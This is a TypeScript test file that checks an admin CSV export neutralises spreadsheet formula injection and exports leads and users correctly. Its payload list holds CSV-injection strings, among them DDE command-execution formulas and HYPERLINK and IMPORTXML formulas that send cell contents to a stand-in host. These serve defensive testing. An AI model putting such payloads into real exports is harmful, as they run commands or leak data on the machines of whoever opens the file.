import fc from 'fast-check';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { csvFileName, neutraliseCell } from '../../../src-shared/domain/admin-csv.ts';
import { leadsCsv, usersCsv } from '../../support/admin-csv.ts';
import type { ManagedUser } from '../../../src-shared/domain/managed-user.ts';

/** Payloads from CSV-injection write-ups (OWASP, spreadsheet advisories), as attackers send them. */
const FORMULA_PAYLOADS = [
  '=1+1',
  '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  "=cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '   +SUM(A1:A9)',
  '\u00a0=1',
  '=IMPORTXML(CONCAT("http://evil.example/?v=", A1), "//a")',
  "-2+3+cmd|' /C calc'!A0",
  '@=1',
  '\uff1d1+1',
  '\t',
];

describe('CSV formula neutralising', () => {
  for (const payload of FORMULA_PAYLOADS) {
    it(`neutralises ${JSON.stringify(payload)}`, () => {
      expect(neutraliseCell(payload)).toBe(`'${payload}`);
    });
  }

  it('leaves ordinary text alone', () => {
    for (const value of ['Ada Lovelace', 'ada@example.com', 'hero_cta', '2026-01-01T10:00:00.000Z', 'a=b', 'x-y', '', '1+1']) {
      expect(neutraliseCell(value)).toBe(value);
    }
  });

  it('no exported cell ever starts, after spaces, with a formula character (property)', () => {
    fc.assert(
      fc.property(fc.array(fc.tuple(fc.string(), fc.string(), fc.string())), (rows) => {
        const csv = leadsCsv(
          rows.map(([name, email, source], id) => ({ id, name, email, source, created_at: '2026-01-01T00:00:00.000Z' })),
        );
        const parsed = Papa.parse<string[]>(csv, { newline: '\r\n' }).data.slice(1);
        for (const row of parsed) for (const cell of row) expect(cell).not.toMatch(/^[\s\u00a0]*[=+\-@]|^[\t\r\n]/);
      }),
    );
  });
});

describe('CSV files', () => {
  it('leads: the fixed columns, one row per lead, values round-trip', () => {
    const csv = leadsCsv([
      { id: 1, name: 'Ada, Countess', email: 'ada@example.com', source: 'hero_cta', created_at: '2026-03-01T10:00:00.000Z' },
      { id: 2, name: 'Quote "Q" Person', email: '=evil@example.com', source: 'contact', created_at: '2026-02-01T10:00:00.000Z' },
    ]);
    const rows = Papa.parse<string[]>(csv).data;
    expect(rows[0]).toEqual(['Name', 'Email', 'Source', 'Created At']);
    expect(rows[1]).toEqual(['Ada, Countess', 'ada@example.com', 'hero_cta', '2026-03-01T10:00:00.000Z']);
    expect(rows[2]).toEqual(['Quote "Q" Person', "'=evil@example.com", 'contact', '2026-02-01T10:00:00.000Z']);
  });

  it('users: the fixed columns with Enabled as Yes or No', () => {
    const user: ManagedUser = {
      id: 'u1',
      username: 'u1',
      email: 'grace@example.com',
      firstName: 'Grace',
      lastName: 'Hopper',
      status: 'CONFIRMED',
      createdDate: '2026-01-01T00:00:00.000Z',
      lastModifiedDate: '2026-01-02T00:00:00.000Z',
      enabled: false,
    };
    const rows = Papa.parse<string[]>(usersCsv([user, { ...user, username: 'u2', enabled: true }])).data;
    expect(rows[0]).toEqual([
      'Username',
      'Email',
      'First Name',
      'Last Name',
      'Status',
      'Enabled',
      'Created Date',
      'Last Modified',
    ]);
    expect(rows[1]).toEqual([
      'u1',
      'grace@example.com',
      'Grace',
      'Hopper',
      'CONFIRMED',
      'No',
      '2026-01-01T00:00:00.000Z',
      '2026-01-02T00:00:00.000Z',
    ]);
    expect(rows[2]?.[5]).toBe('Yes');
  });

  it('are named leads-YYYY-MM-DD.csv and users-YYYY-MM-DD.csv', () => {
    expect(csvFileName('leads', new Date(2026, 10, 5, 23, 59))).toBe('leads-2026-11-05.csv');
    expect(csvFileName('users', new Date(2026, 0, 31))).toBe('users-2026-01-31.csv');
  });
});
